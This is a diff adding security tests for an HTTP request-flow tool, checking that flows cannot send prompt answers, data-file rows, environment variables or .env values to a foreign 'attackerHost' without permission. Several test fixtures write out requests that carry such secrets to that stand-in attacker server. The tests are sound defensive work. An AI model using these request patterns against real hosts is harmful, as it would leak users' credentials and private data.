@@ -14,7 +14,8 @@ import type { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { runCli } from '../../../src/cli/cli';
-import { parseFlow, runFlow, type FlowEnvironment } from '../../../src/core/flows';
+import { runBackfill } from '../../../src/core/backfill';
+import { checkFlowForRun, parseFlow, runFlow, type FlowEnvironment } from '../../../src/core/flows';
 import { FlowFileAccessError, projectAccess, projectOf, readInScope, readScopeOf } from '../../../src/core/flows/projectFiles';
 import { generateKeyMaterial, importPrivateKeyPem } from '../../../src/core/jwt/keys';
 import { TokenMinter } from '../../../src/core/jwt/mint';
@@ -201,6 +202,109 @@ describe('flows: what a flow may read and where it may send', function () {
       const yes = await runFlow(parseFlow(text, 'ask.http'), { environment, readFile: () => Promise.reject(new Error('none')), hosts: { confirm: async () => true } });
       assert.equal(yes[0]?.outcome, 'passed', yes[0]?.message);
       assert.equal(received.length, before + 1);
+    });
+
+    it("the check before a run asks the host policy's question (the editor's dialog), only of a flow nothing else refuses", async () => {
+      const text = (extra: string) => `GET http://${attackerHost}/first\n\n###\nPOST http://${attackerHost}/d\n\n{"p":"{{partnerId}}"${extra}}\n`;
+      const asked: string[] = [];
+      const hosts = (answer: boolean) => ({ environment, variables: {}, policy: { confirm: async (host: string) => (asked.push(host), answer) } });
+      const names = new Set(['baseUrl', 'partnerId']);
+      assert.deepEqual(await checkFlowForRun(parseFlow(text(''), 'ask.http'), { names, hosts: hosts(true) }), [], 'a yes lets it run');
+      const no = await checkFlowForRun(parseFlow(text(''), 'ask.http'), { names, hosts: hosts(false) });
+      assert.deepEqual(no.map((p) => `${p.line}:${p.column} ${p.code}`), ['4:6 flow-foreign-host']);
+      assert.deepEqual(asked, [attackerHost, attackerHost]);
+      const other = await checkFlowForRun(parseFlow(text(',"x":"{{nope}}"'), 'ask.http'), { names, hosts: hosts(true) });
+      assert.deepEqual(other.map((p) => p.code), ['flow-foreign-host', 'flow-unknown-variable'], 'refused anyway: the host is not asked about');
+      assert.equal(asked.length, 2);
+    });
+
+    it('a # @prompt answer is a value of your side, even where a file variable has its name, in its request and later ones', async () => {
+      attacker.removeAllListeners('request');
+      attacker.on('request', (req, res) => {
+        let body = '';
+        req.on('data', (c: Buffer) => (body += c.toString()));
+        req.on('end', () => {
+          received.push(`${req.method} ${req.url} ${body}`.trim());
+          res.end('{}');
+        });
+      });
+      const none = () => Promise.reject(new Error('none'));
+      // The answer wins over @tok when resolving (docs/flows.md, Variables), so @tok's own text is no excuse.
+      const same = parseFlow(`@tok = written-here\n# @prompt tok\nPOST http://${attackerHost}/d?t={{tok}}\n`, 'prompt.http');
+      const asked: string[] = [];
+      const typed = await runFlow(same, { environment, readFile: none, prompt: async () => 'typed-secret', hosts: { confirm: async (host, carried) => (asked.push(carried.map((c) => `${c.kind} ${'name' in c ? c.name : ''}`).join()), false) } });
+      assert.equal(typed[0]?.outcome, 'errored', typed[0]?.message);
+      assert.match(typed[0]?.message ?? '', /Not sent: it would send the answer to # @prompt tok \(\{\{tok\}\}\) to 127\.0\.0\.1:\d+/);
+      assert.deepEqual(asked, ['prompt tok'], 'the editor asks, naming the prompt');
+      // tpp.variables fills the input box in: accepting it unchanged is an answer too.
+      const prefilled = await runFlow(same, { environment, readFile: none, variables: { tok: 'from-settings' }, prompt: async (_r, _p, initial) => initial });
+      assert.match(prefilled[0]?.message ?? '', /Not sent: it would send the answer to # @prompt tok/);
+      // A file variable first resolved with the answer keeps it for the rest of the run: a later request carries it.
+      const later = parseFlow(`@tok = written-here\n@auth = Bearer {{tok}}\n# @prompt tok\nGET {{baseUrl}}/verify-token\nX-Auth: {{auth}}\n\n###\nGET http://${attackerHost}/later\nX-Auth: {{auth}}\n`, 'later.http');
+      const after = await runFlow(later, { environment, readFile: none, prompt: async () => 'typed-secret' });
+      assert.deepEqual(after.map((r) => r.outcome), ['passed', 'errored'], after.map((r) => r.message).join(' | '));
+      assert.match(after[1]?.message ?? '', /the answer to # @prompt tok/);
+      assert.deepEqual(received, [], 'the foreign host got nothing');
+      // tpp run asks nothing: its --var is a variable given from outside, refused before sending anything ...
+      const given = write(join(project, 'flows', 'prompt.http'), `# @prompt tok\nPOST http://${attackerHost}/d\nContent-Type: text/plain\n\n{{tok}}\n`);
+      const r = await cli(project, 'run', given, ...flags(), '--var', 'tok=typed-secret');
+      assert.equal(r.code, 2, r.out);
+      assert.match(r.out, /prompt\.http:2:6: error: .*the variable \{\{tok\}\} given from outside the file to 127\.0\.0\.1:\d+/);
+      assert.deepEqual(received, []);
+      // ... and a file variable of the name wins over it there (tpp run --help): the file's own text may go anywhere.
+      const own = write(join(project, 'flows', 'prompt-own.http'), `@tok = written-here\n# @prompt tok\nPOST http://${attackerHost}/d\nContent-Type: text/plain\n\n{{tok}}\n`);
+      const sent = await cli(project, 'run', own, ...flags(), '--var', 'tok=typed-secret');
+      assert.equal(sent.code, 0, sent.out);
+      assert.deepEqual(received, ['POST /d written-here'], 'sent what the file wrote, not the --var');
+    });
+
+    it('a data row value goes to the environment only: tpp run refuses the backfill before a row is sent, a row refuses it when it comes up', async () => {
+      attacker.removeAllListeners('request');
+      attacker.on('request', (req, res) => {
+        received.push(`${req.method} ${req.url}`);
+        res.end('{}');
+      });
+      write(join(project, 'flows', 'route-rows.csv'), 'x\nrow-secret-1\nrow-secret-2\n');
+      const text = `# @data ./route-rows.csv\nPOST http://${attackerHost}/row\nContent-Type: text/plain\n\n{{row.x}}\n`;
+      const flowPath = write(join(project, 'flows', 'route-rows.http'), text);
+      const refused = await cli(project, 'run', flowPath, ...flags(), '--no-journal');
+      assert.equal(refused.code, 2, refused.out);
+      assert.match(refused.out, /route-rows\.http:2:6: error: .*the data file's \{\{row\.x\}\} to 127\.0\.0\.1:\d+, which is not an address of the environment/);
+      assert.deepEqual(received, []);
+      // Where the URL is known only as the row runs, the row itself is refused when its request comes up.
+      const late = `# @data ./route-rows.csv\n@to = http://${attackerHost}\nPOST {{to}}/row/{{row.x}}\n`;
+      const rows: string[] = [];
+      await runBackfill({ flow: parseFlow(late, flowPath), flowText: late, flowPath, dataPath: join(project, 'flows', 'route-rows.csv'), environment, readFile: async () => '', journal: false, listener: { onRowEnd: (r) => void rows.push(`${r.status} ${r.message ?? ''}`) } });
+      assert.equal(rows.length, 2);
+      for (const r of rows) assert.match(r, /Not sent: it would send the data file's \{\{row\.x\}\} to 127\.0\.0\.1:\d+/);
+      assert.deepEqual(received, [], 'no row reached the other host');
+    });
+
+    it('{{$processEnv NAME}} and {{$dotenv NAME}} go to the environment only: tpp run refuses them before sending, unless --allow-host', async () => {
+      attacker.removeAllListeners('request');
+      attacker.on('request', (req, res) => {
+        received.push(`${req.method} ${req.url} ${req.headers['x-key']}`);
+        res.end('{}');
+      });
+      write(join(project, 'flows', '.env'), 'SAFETY_DOTENV=dot-secret\n');
+      process.env.TPP_SAFETY_ENV = 'env-secret';
+      try {
+        for (const [name, ref, words] of [
+          ['route-env.http', '{{$processEnv TPP_SAFETY_ENV}}', /the environment variable TPP_SAFETY_ENV \(\{\{\$processEnv TPP_SAFETY_ENV\}\}\)/],
+          ['route-dotenv.http', '{{$dotenv SAFETY_DOTENV}}', /the \.env value SAFETY_DOTENV \(\{\{\$dotenv SAFETY_DOTENV\}\}\)/],
+        ] as const) {
+          const flow = write(join(project, 'flows', name), `GET {{baseUrl}}/verify-token\n\n###\nGET http://${attackerHost}/k\nX-Key: ${ref}\n`);
+          const r = await cli(project, 'run', flow, ...flags());
+          assert.equal(r.code, 2, `${name}: ${r.out}`);
+          assert.match(r.out, new RegExp(`${name.replace('.', '\\.')}:4:5: error: .*${words.source} to 127\\.0\\.0\\.1:\\d+`), name);
+          assert.deepEqual(received, [], `${name}: nothing was sent, not even the signed request before it`);
+          const allowed = await cli(project, 'run', flow, ...flags(), '--allow-host', attackerHost);
+          assert.equal(allowed.code, 0, `${name}: ${allowed.out}`);
+          assert.equal(received.pop(), `GET /k ${name === 'route-env.http' ? 'env-secret' : 'dot-secret'}`, 'the host rule, and nothing else, held it');
+        }
+      } finally {
+        delete process.env.TPP_SAFETY_ENV;
+      }
     });
 
     it('a request carrying only what the file wrote may go to any host; the token never does', async () => {
